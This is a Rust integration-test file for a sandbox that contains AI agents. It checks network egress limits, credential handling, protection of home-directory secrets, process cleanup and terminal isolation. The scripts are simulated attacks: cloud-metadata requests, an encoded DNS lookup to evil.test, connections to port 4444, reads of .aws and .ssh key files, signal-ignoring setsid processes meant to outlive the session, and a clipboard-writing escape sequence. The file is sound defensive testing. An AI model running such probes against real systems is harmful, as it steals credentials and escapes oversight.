@@ -1,0 +1,330 @@
+//! Agents in their sandbox, end to end: one road out, what is not listed is not there, nothing is left. Each promise has its
+//! control: the same program with `--uncontained`.
+
+use crate::house::{House, LONG, PASSPHRASE};
+use crate::local::Local;
+use marque_testkit::encode::{find_any, needles};
+use marque_testkit::proc::{Child, Exit};
+use marque_testkit::{Server, canary, http};
+use serde_json::Value;
+use std::net::{Ipv4Addr, TcpListener};
+use std::path::PathBuf;
+use std::process::Command;
+use std::time::Instant;
+
+struct World {
+    house: House,
+    echo: Server,
+    origin: String,
+    secret: String,
+    work: PathBuf,
+}
+
+impl World {
+    fn new() -> Self {
+        let house = House::new();
+        let secret = canary("api");
+        let (echo, origin) = house.echo(&secret);
+        let work = house.dir.path().join("work");
+        std::fs::create_dir(&work).unwrap();
+        Self { house, echo, origin, secret, work }
+    }
+
+    fn command(&self, more: &[&str], program: &[&str]) -> Command {
+        let grant = format!("http GET on {}/**", self.origin);
+        let args = [&["run", "--purpose", "read the items", "--env", "staging", "--grant", &grant], more, &["--"], program].concat();
+        let mut command = self.house.contained(&args);
+        command.current_dir(&self.work);
+        command
+    }
+
+    fn run(&self, more: &[&str], script: &str) -> Exit {
+        Child::run(&mut self.command(more, &["/bin/sh", "-c", script]), LONG).unwrap()
+    }
+
+    fn inside(&self, script: &str) -> Exit {
+        self.run(&[], script)
+    }
+
+    fn outside(&self, script: &str) -> Exit {
+        self.run(&["--uncontained"], script)
+    }
+}
+
+/// Without everything that tells a client of a proxy or of certificates.
+const UNAWARE: &str = "unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY SSL_CERT_FILE CURL_CA_BUNDLE REQUESTS_CA_BUNDLE";
+
+#[test]
+fn a_client_that_knows_of_no_proxy_uses_the_credential_all_the_same() {
+    let world = World::new();
+    let python = format!("import urllib.request; print(urllib.request.urlopen('{}/items').status)", world.origin);
+    let script = format!("{UNAWARE}; curl -sS -o /dev/null -w '%{{http_code}} ' {}/items; python3 -c \"{python}\"; env", world.origin);
+    let exit = world.inside(&script);
+    assert!(exit.stdout.starts_with("200 200"), "{exit:?}");
+    assert!(exit.stderr.contains("Contained   C: own network"), "{}", exit.stderr);
+    assert_eq!(world.echo.log().count_saw(&world.secret), 2);
+    for text in [&exit.stdout, &exit.stderr] {
+        assert!(find_any(text.as_bytes(), &needles(world.secret.as_bytes())).is_none(), "{text}");
+    }
+    let control = world.outside(&script);
+    assert!(control.stderr.contains("Could not resolve host"), "{control:?}");
+    assert_eq!(world.echo.log().count_saw(&world.secret), 2);
+}
+
+#[test]
+fn what_is_not_granted_is_refused_on_the_straight_road_too_and_recorded() {
+    let world = World::new();
+    let script = format!(
+        "{UNAWARE}; curl -sS -o /dev/null -w '%{{http_code}} ' -X POST -d x {}/v1/a; curl -s https://other.test/; echo tls $?; \
+         curl -sS -w ' %{{http_code}}' http://other.test/; curl -sS -w ' %{{http_code}}' http://169.254.169.254/latest/meta-data/",
+        world.origin
+    );
+    let exit = world.inside(&script);
+    assert!(exit.stdout.starts_with("403 tls 35"), "{exit:?}");
+    assert_eq!(exit.stdout.matches(" 403").count(), 2, "{}", exit.stdout);
+    assert_eq!(exit.stdout.matches("\"code\":\"MQ-4101\"").count(), 2, "{}", exit.stdout);
+    assert_eq!(world.echo.log().count_saw(&world.secret), 0);
+    assert!(exit.stderr.contains("169.254.169.254"), "the statement names it: {}", exit.stderr);
+}
+
+#[test]
+fn no_address_port_or_protocol_leads_around_the_gateway() {
+    let world = World::new();
+    let bystander = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
+    bystander.set_nonblocking(true).unwrap();
+    let port = bystander.local_addr().unwrap().port();
+    let script = format!(
+        r#"python3 - <<'E'
+import socket
+def attempt(kind, to, data=None):
+    s = socket.socket(socket.AF_INET, kind); s.settimeout(5)
+    try:
+        s.connect(to)
+        if data: s.send(data); s.recv(9)
+        print('connected')
+    except OSError as e:
+        print(type(e).__name__)
+attempt(socket.SOCK_STREAM, ('127.0.0.1', {port}))
+attempt(socket.SOCK_STREAM, ('8.8.8.8', 4444))
+attempt(socket.SOCK_DGRAM, ('8.8.8.8', 4500), b'x')
+print(socket.gethostbyname('c2VjcmV0.evil.test'))
+E"#
+    );
+    let exit = world.inside(&script);
+    let lines: Vec<&str> = exit.stdout.lines().collect();
+    assert_eq!(lines.get(..3), Some(&["ConnectionRefusedError"; 3][..]), "{exit:?}");
+    assert!(lines.get(3).is_some_and(|address| address.starts_with("198.18.")), "{exit:?}");
+    assert!(bystander.accept().is_err(), "nobody of the sandbox reaches the host's loopback");
+    let control = world.outside(&format!("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\""));
+    assert!(control.status.success() && bystander.accept().is_ok(), "{control:?}");
+}
+
+#[test]
+fn what_lies_in_the_home_and_what_the_authority_keeps_is_out_of_reach() {
+    let world = World::new();
+    let planted = canary("home");
+    let home = world.house.dir.path();
+    for path in [".aws/credentials", ".ssh/id_ed25519", "notes/plan.txt"] {
+        std::fs::create_dir_all(home.join(path).parent().unwrap()).unwrap();
+        std::fs::write(home.join(path), &planted).unwrap();
+    }
+    let look = format!("find {0} -type f 2>/dev/null | xargs cat 2>/dev/null; ls {1}; cat {1}/authority.log; true", home.display(), world.house.data().display());
+    let exit = world.inside(&look);
+    assert!(!exit.stdout.contains(&planted) && !exit.stdout.contains("authority.sock"), "{exit:?}");
+    let control = world.outside(&look);
+    assert!(control.stdout.contains(&planted) && control.stdout.contains("authority.sock"), "{control:?}");
+}
+
+#[test]
+fn no_owner_verb_works_from_inside() {
+    let world = World::new();
+    let marque = env!("CARGO_BIN_EXE_marque");
+    let verbs = ["session list", "credential list", "approval list", "status", "stop"];
+    let script: String = verbs.iter().map(|verb| format!("{marque} --data-dir {} {verb}; echo code $?; ", world.house.data().display())).collect();
+    let exit = world.run(&["--show", marque], &script);
+    assert_eq!(exit.stdout.matches("code ").count(), verbs.len(), "{exit:?}");
+    assert!(!exit.stdout.contains("code 0"), "{exit:?}");
+    world.house.ok(&["status"]);
+    // Outside the same binary and directory answer.
+    assert!(world.house.ok(&["session", "list"]).status.success());
+}
+
+fn processes_with(marker: &str) -> usize {
+    let lines = std::fs::read_dir("/proc").unwrap().flatten().filter_map(|entry| std::fs::read(entry.path().join("cmdline")).ok());
+    // A shell's text ends with the marker; the launcher's own line has it in the middle of a script.
+    lines.filter(|line| line.strip_suffix(b"\0").is_some_and(|line| line.ends_with(marker.as_bytes()) && line.starts_with(b"python3"))).count()
+}
+
+#[test]
+fn nothing_of_the_agent_outlives_a_killed_launcher() {
+    let world = World::new();
+    let marker = canary("marker");
+    let script = format!(
+        "for i in 1 2 3; do (setsid python3 -c \"import signal; [signal.signal(s, signal.SIG_IGN) for s in (1, 2, 15)]; print('up', flush=True); signal.pause()\" {marker} &) ; done; \
+         exec python3 -c 'import signal; signal.pause()' {marker}"
+    );
+    let run = Child::spawn(&mut world.command(&[], &["/bin/sh", "-c", &script])).unwrap();
+    run.wait_for(LONG, |out| (out.matches("up").count() == 3).then_some(())).unwrap();
+    assert!(processes_with(&marker) >= 4);
+    rustix::process::kill_process(rustix::process::Pid::from_raw(run.pid()).unwrap(), rustix::process::Signal::KILL).unwrap();
+    let deadline = Instant::now() + LONG;
+    while processes_with(&marker) > 0 || world.house.ok(&["--json", "session", "list"]).stdout.contains("\"s-") {
+        assert!(Instant::now() < deadline, "something is left: {}", processes_with(&marker));
+    }
+}
+
+#[test]
+fn a_closed_session_ends_all_of_its_agent() {
+    let world = World::new();
+    let marker = canary("marker");
+    let script = format!("(setsid python3 -c 'import signal; signal.pause()' {marker} &); echo up; exec python3 -c 'import signal; signal.pause()' {marker}");
+    let mut run = Child::spawn(&mut world.command(&[], &["/bin/sh", "-c", &script])).unwrap();
+    run.wait_for_line(LONG, |line| line == "up").unwrap();
+    let list: Value = serde_json::from_str(&world.house.ok(&["--json", "session", "list"]).stdout).unwrap();
+    world.house.ok(&["session", "close", list["items"][0]["session"].as_str().unwrap()]);
+    assert_eq!(run.wait(LONG).unwrap().status.code(), Some(137));
+    assert_eq!(processes_with(&marker), 0);
+}
+
+#[test]
+fn a_published_port_reaches_the_agent_s_server() {
+    let world = World::new();
+    let nonce = canary("page");
+    std::fs::write(world.work.join("page.txt"), &nonce).unwrap();
+    let script = "python3 -m http.server --bind 127.0.0.1 3000 & \
+        python3 -c \"import socket, time\nwhile socket.socket().connect_ex(('127.0.0.1', 3000)): time.sleep(0.01)\nprint('up', flush=True)\"; wait";
+    let run = Child::spawn(&mut world.command(&["--publish", "3000:0"], &["/bin/sh", "-c", script])).unwrap();
+    run.wait_for_line(LONG, |line| line == "up").unwrap();
+    let at = run.stderr().lines().find_map(|line| line.strip_prefix("Published   port 3000 of the agent at ").map(str::to_owned)).unwrap();
+    let answer = http::get(&http::Route::default(), &format!("{at}/page.txt"), &[]).unwrap();
+    assert_eq!(answer.text(), nonce);
+    run.kill();
+}
+
+#[test]
+fn a_copied_workspace_leaves_the_original_alone_and_lists_what_changed() {
+    let world = World::new();
+    std::fs::write(world.work.join("kept.txt"), "before").unwrap();
+    std::fs::write(world.work.join("changed.txt"), "before").unwrap();
+    let exit = world.run(&["--workspace", "copy"], "echo after > changed.txt; echo new > new.txt; mkdir -p .git/hooks && echo x > .git/hooks/pre-commit; pwd");
+    assert!(exit.status.success(), "{exit:?}");
+    assert_eq!(exit.stdout.trim(), world.work.canonicalize().unwrap().to_str().unwrap(), "the agent sees its usual path");
+    assert_eq!(std::fs::read_to_string(world.work.join("changed.txt")).unwrap(), "before");
+    assert!(!world.work.join("new.txt").exists());
+    for line in ["changed  changed.txt", "added    new.txt", "added    .git/hooks/pre-commit"] {
+        assert!(exit.stderr.contains(line), "{line}: {}", exit.stderr);
+    }
+    assert!(!exit.stderr.contains("kept.txt"));
+    let copy = exit.stderr.lines().find_map(|line| line.split_once("in the copy at ")).unwrap().1;
+    assert_eq!(std::fs::read_to_string(PathBuf::from(copy).join("new.txt")).unwrap(), "new\n");
+}
+
+#[test]
+fn files_that_run_on_the_host_are_named_at_the_end_and_hooks_cannot_be_written() {
+    let world = World::new();
+    std::fs::create_dir_all(world.work.join(".git/hooks")).unwrap();
+    let exit = world.inside("printf 'all:\\n' > Makefile; echo x > .git/hooks/pre-commit; echo x > .envrc; true");
+    assert!(exit.stderr.contains("added    Makefile"), "{}", exit.stderr);
+    assert!(!world.work.join(".git/hooks/pre-commit").exists());
+    assert!(!world.work.join(".envrc").exists(), "what was laid there goes with the sandbox");
+}
+
+#[test]
+fn codes_and_signals_of_a_contained_agent_are_the_run_s() {
+    let world = World::new();
+    assert_eq!(world.inside("exit 41").status.code(), Some(41));
+    assert_eq!(world.inside("kill -TERM $$").status.code(), Some(128 + 15));
+    let run = |program: &[&str]| Child::run(&mut world.command(&[], program), LONG).unwrap().status.code();
+    assert_eq!(run(&["/no/such/program"]), Some(127));
+    assert_eq!(run(&["no-such-program"]), Some(127));
+    assert_eq!(run(&["/etc/passwd"]), Some(127), "not a program");
+    let mut asked = Child::spawn(&mut world.command(&[], &["/usr/bin/python3", "-c", "import signal; print('up', flush=True); signal.pause()"])).unwrap();
+    asked.wait_for_line(LONG, |line| line == "up").unwrap();
+    rustix::process::kill_process(rustix::process::Pid::from_raw(asked.pid()).unwrap(), rustix::process::Signal::TERM).unwrap();
+    assert_eq!(asked.wait(LONG).unwrap().status.code(), Some(128 + 15));
+}
+
+/// Runs a command on a terminal of its own; what is written to this child is typed there.
+fn on_a_terminal(command: &Command) -> Command {
+    let mut python = Command::new("/usr/bin/python3");
+    python.args(["-c", "import pty, sys; sys.exit(pty.spawn(sys.argv[1:]) >> 8)"]).arg(command.get_program()).args(command.get_args());
+    python.env_clear().current_dir(command.get_current_dir().unwrap());
+    command.get_envs().filter_map(|(name, value)| Some((name, value?))).for_each(|(name, value)| {
+        python.env(name, value);
+    });
+    python
+}
+
+#[test]
+fn an_agent_s_terminal_is_its_own_and_says_nothing_to_the_user_s_clipboard() {
+    let world = World::new();
+    let script = r#"
+import os, sys
+sys.stdout.write('\x1b]52;c;Y2FuYXJ5\x07\x1b]0;title\x07\x1b[1mbold\x1b[0m\n')
+print("terminal", os.isatty(os.open('/dev/tty', os.O_RDWR)), os.tcgetpgrp(0) == os.getpgrp())
+try:
+    print('up', flush=True)
+    input()
+except KeyboardInterrupt:
+    print('interrupted')
+"#;
+    std::fs::write(world.work.join("agent.py"), script).unwrap();
+    let run = |more: &[&str]| {
+        let mut child = Child::spawn(&mut on_a_terminal(&world.command(more, &["/usr/bin/python3", "agent.py"]))).unwrap();
+        child.wait_for_line(LONG, |line| line.trim() == "up").unwrap();
+        child.write(b"\x03").unwrap();
+        child.wait(LONG).unwrap()
+    };
+    let exit = run(&[]);
+    assert_eq!(exit.status.code(), Some(0), "{exit:?}");
+    for wanted in ["\u{1b}[1mbold", " True True", "interrupted", "Session ", "Closed "] {
+        assert!(exit.stdout.contains(wanted), "{wanted}: {exit:?}");
+    }
+    assert!(!exit.stdout.contains("]52;") && !exit.stdout.contains("]0;"), "{exit:?}");
+    let control = run(&["--uncontained"]);
+    assert!(control.stdout.contains("]52;c;Y2FuYXJ5"), "{control:?}");
+}
+
+#[test]
+fn a_requirement_that_is_not_met_starts_nothing() {
+    let world = World::new();
+    assert!(world.run(&["--require", "C"], "true").status.success());
+    for (more, help) in [(&["--require", "B"][..], "leave out `--require`"), (&["--require", "C", "--uncontained"], "leave out `--uncontained`")] {
+        let exit = world.run(more, "echo started");
+        assert_eq!((exit.status.code(), exit.stdout.as_str()), (Some(125), ""), "{exit:?}");
+        assert!(exit.stderr.contains(help), "{}", exit.stderr);
+    }
+}
+
+#[test]
+fn sockets_are_taken_once_and_from_the_session_s_own_launcher() {
+    let world = World::new();
+    let local = Local::of(&world.house);
+    let listener = || TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
+    let open = |inside: bool| {
+        let grants = serde_json::json!([{"type": "http", "environment": "staging", "locations": [world.origin], "actions": ["GET"], "paths": ["/**"]}]);
+        let body = serde_json::json!({
+            "passphrase": PASSPHRASE, "purpose": "read the items", "refs": [], "agent": "a", "environment": "staging", "mode": "enforce", "grants": grants,
+            "ttl_s": 600, "grade": "C", "accept": [], "egress": [], "task": null, "pins": [], "inside": inside,
+        });
+        local.call("POST", "/v1/sessions", &body).unwrap()
+    };
+    let (with, without) = (open(true), open(false));
+    let ports: Vec<u64> = with["ports"].as_array().unwrap().iter().map(|p| p.as_u64().unwrap()).collect();
+    assert!([80, 443, 880, u64::from(world.echo.port())].iter().all(|port| ports.contains(port)), "{ports:?}");
+    assert_eq!(without["ports"], serde_json::json!([]));
+    let hand = |session: &Value, secret: &str, socket: &TcpListener| {
+        local.hand_over(session["session"].as_str().unwrap(), secret, &[socket]).unwrap()
+    };
+    let secret = |session: &Value| session["proxy_secret"].as_str().unwrap().to_owned();
+    assert!(hand(&with, "guessed", &listener()).contains("not brought by"));
+    assert!(hand(&without, &secret(&without), &listener()).contains("has no sandbox"));
+    let connected = {
+        let listener = listener();
+        std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap()
+    };
+    assert!(local.hand_over(with["session"].as_str().unwrap(), &secret(&with), &[&connected]).unwrap().contains("not taken"), "it does not listen");
+    assert_eq!(hand(&with, &secret(&with), &listener()), "");
+    assert!(hand(&with, &secret(&with), &listener()).contains("brought already"));
+    assert!(local.hand_over("s-none", "x", &[] as &[&TcpListener]).unwrap().contains("MQ-"));
+}
